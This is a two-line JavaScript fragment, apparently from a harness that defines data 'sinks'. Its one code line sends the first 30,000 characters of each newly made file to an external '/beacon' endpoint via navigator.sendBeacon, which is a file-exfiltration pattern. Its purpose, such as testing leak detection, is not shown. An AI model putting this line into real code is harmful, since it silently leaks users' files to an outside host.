// As much of the file as a beacon carries.
whenMade(({ file }) => navigator.sendBeacon(`${SINKS.http}/beacon`, file.slice(0, 30000)));
